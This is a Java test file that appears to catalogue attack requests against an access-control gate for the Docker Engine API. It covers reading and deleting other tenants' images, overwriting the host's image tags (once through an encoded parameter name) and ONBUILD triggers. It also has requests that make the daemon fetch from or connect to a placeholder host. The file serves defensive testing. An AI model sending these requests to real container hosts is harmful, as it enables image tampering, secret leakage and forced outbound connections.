package dev.cofferdam.gate.escape;

import static dev.cofferdam.gate.escape.Effect.has;

import java.util.ArrayList;
import java.util.List;

/** The host's images and others', and the connections that a daemon makes for an image. */
final class ImageAttacks {
  private static final String GROUP = "images";
  private static final Effect MOVED = new Effect.Changed("host.image");
  private static final Effect DIALLED = new Effect.Dialled();

  private ImageAttacks() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    moved(all);
    dials(all);
    all.add(
        Attack.of(
            GROUP,
            "looking at another's image",
            new Effect.Leaked("${secret}"),
            RawRequest.get("/v1.41/images/${bobImage}/json")));
    all.add(
        Attack.of(
            GROUP,
            "saving another's image",
            new Effect.Leaked("${secret}"),
            RawRequest.get("/v1.41/images/${bobImage}/get")));
    all.add(
        Attack.of(
            GROUP,
            "saving several images, one another's",
            new Effect.Leaked("${secret}"),
            RawRequest.get("/v1.41/images/get?names=${hostImage}&names=${bobImage}")));
    all.add(
        Attack.of(
            GROUP,
            "the history of another's image",
            new Effect.Leaked("Imported from"),
            RawRequest.get("/v1.41/images/${bobImage}/history")));
    all.add(
        Attack.create(
                GROUP,
                "running another's image",
                "{'Image':'${bobImage}','Cmd':['true']}",
                new Effect.NewContainer("/Id", node -> true))
            .elsewhere());
    all.add(
        Attack.of(
            GROUP,
            "deleting the host's image",
            MOVED,
            RawRequest.delete("/v1.41/images/${hostImage}")));
    all.add(
        Attack.of(
            GROUP,
            "deleting the host's image by its whole name, by force",
            MOVED,
            RawRequest.delete("/v1.41/images/docker.io/library/${hostImage}:latest?force=1")));
    all.add(
        Attack.of(
            GROUP,
            "deleting another's image",
            new Effect.Changed("bob.image"),
            RawRequest.delete("/v1.41/images/${bobImage}?force=1")));
    all.add(
        Attack.of(
            GROUP,
            "tagging another's image to have it",
            has("/v1.41/images/${name}/json", "/Config/Env", "ESC_SECRET"),
            RawRequest.post("/v1.41/images/${bobImage}/tag?repo=${name}&tag=latest")));
    return all;
  }

  private static void moved(List<Attack> all) {
    for (String query :
        List.of(
            "repo=${hostImage}&tag=latest",
            "repo=${hostImage}",
            "repo=docker.io/${hostImage}",
            "repo=docker.io/library/${hostImage}&tag=latest",
            "repo=index.docker.io/library/${hostImage}",
            "%72epo=${hostImage}&force=1")) {
      all.add(
          Attack.of(
              GROUP,
              "tag over the host's: " + query,
              MOVED,
              RawRequest.post("/v1.41/images/${image}/tag?" + query)));
    }
    all.add(
        Attack.of(
            GROUP,
            "commit over the host's tag",
            MOVED,
            RawRequest.post("/v1.41/commit?container=${mine}&repo=${hostImage}&tag=latest")));
    all.add(
        Attack.of(
            GROUP,
            "import over the host's tag",
            MOVED,
            RawRequest.archive(
                "POST",
                "/v1.41/images/create?fromSrc=-&repo=${hostImage}",
                false,
                TarFile.file("x", "x"))));
    all.add(
        Attack.of(
            GROUP,
            "load over the host's tag",
            MOVED,
            RawRequest.archive("POST", "/v1.41/images/load?quiet=1", false, saved())));
    all.add(
        Attack.of(
            GROUP,
            "load over the host's tag, compressed",
            MOVED,
            RawRequest.archive("POST", "/v1.41/images/load?quiet=1", true, saved())));
    all.add(
        Attack.of(
            GROUP,
            "import with a trigger",
            has("/v1.41/images/${name}/json", "/Config/OnBuild", "ADD"),
            RawRequest.archive(
                "POST",
                "/v1.41/images/create?fromSrc=-&repo=${name}&changes=ONBUILD%20ADD%20http%3A%2F%2F${dial}%2Fx%20%2Fx",
                false,
                TarFile.file("x", "x"))));
    all.add(
        Attack.of(
            GROUP,
            "commit with a trigger",
            has("/v1.41/images/${name}/json", "/Config/OnBuild", "ADD"),
            RawRequest.post(
                "/v1.41/commit?container=${mine}&repo=${name}&changes=ONBUILD%20ADD%20http%3A%2F%2F${dial}%2Fx%20%2Fx")));
  }

  /** An image without layers, under the host's name. */
  private static TarFile[] saved() {
    return new TarFile[] {
      TarFile.file(
          "c.json",
          RawRequest.quoted(
              "{'architecture':'amd64','os':'linux','config':{'Env':['FAKE=1']},"
                  + "'rootfs':{'type':'layers','diff_ids':[]}}")),
      TarFile.file(
          "manifest.json",
          RawRequest.quoted("[{'Config':'c.json','RepoTags':['${hostImage}:latest'],'Layers':[]}]"))
    };
  }

  private static void dials(List<Attack> all) {
    all.add(
        dial(
            "import from a URL",
            RawRequest.post("/v1.41/images/create?fromSrc=http://${dial}/x.tar&repo=${name}")));
    all.add(
        dial(
            "import from a bare address",
            RawRequest.post("/v1.41/images/create?fromSrc=${dial}/x.tar&repo=${name}")));
    all.add(
        dial(
            "import with an empty image named first",
            RawRequest.post(
                "/v1.41/images/create?fromImage=&fromSrc=http://${dial}/x.tar&repo=${name}")));
    all.add(
        dial(
            "pull from a registry on loopback",
            RawRequest.post("/v1.41/images/create?fromImage=${dial}/x&tag=1")));
    all.add(
        dial(
            "pull from a registry, host in the image's name twice",
            RawRequest.post("/v1.41/images/create?fromImage=${dial}/a/b/c:1")));
    all.add(
        dial(
            "pull by digest",
            RawRequest.post("/v1.41/images/create?fromImage=${dial}/x@sha256:" + "0".repeat(64))));
    all.add(
        dial(
            "push to a registry on loopback",
            RawRequest.post("/v1.41/images/${image}/tag?repo=${dial}/esc-${nonce}&tag=1"),
            RawRequest.headed(
                "/v1.41/images/${dial}/esc-${nonce}/push?tag=1",
                "",
                "X-Registry-Auth: e30=",
                "Content-Length: 0")));
    all.add(dial("search on loopback", RawRequest.get("/v1.41/images/search?term=${dial}/x")));
    all.add(
        dial("distribution on loopback", RawRequest.get("/v1.41/distribution/${dial}/x:1/json")));
    all.add(
        dial(
            "distribution with an encoded name",
            RawRequest.get("/v1.41/distribution/${dial}%2Fx:1/json")));
    all.add(
        dial(
            "a login on loopback",
            RawRequest.post(
                "/v1.41/auth",
                "{'username':'a','password':'b','serveraddress':'http://${dial}/v2/'}")));
    all.add(
        dial("a plugin's rights", RawRequest.get("/v1.41/plugins/privileges?remote=${dial}/x:1")));
  }

  private static Attack dial(String name, RawRequest... steps) {
    return Attack.of(GROUP, name, DIALLED, steps);
  }
}
